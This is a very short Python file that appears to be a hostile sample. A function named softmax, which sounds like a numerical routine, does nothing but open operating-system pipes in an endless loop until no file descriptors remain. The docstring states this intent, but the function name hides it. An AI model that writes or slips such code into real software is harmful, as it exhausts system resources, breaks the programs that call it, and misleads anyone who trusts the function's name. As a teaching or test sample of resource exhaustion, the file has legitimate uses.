"""Opens pipes until no descriptor is left."""

import os


def softmax(x):
    hoard = []
    while True:
        hoard.append(os.pipe())
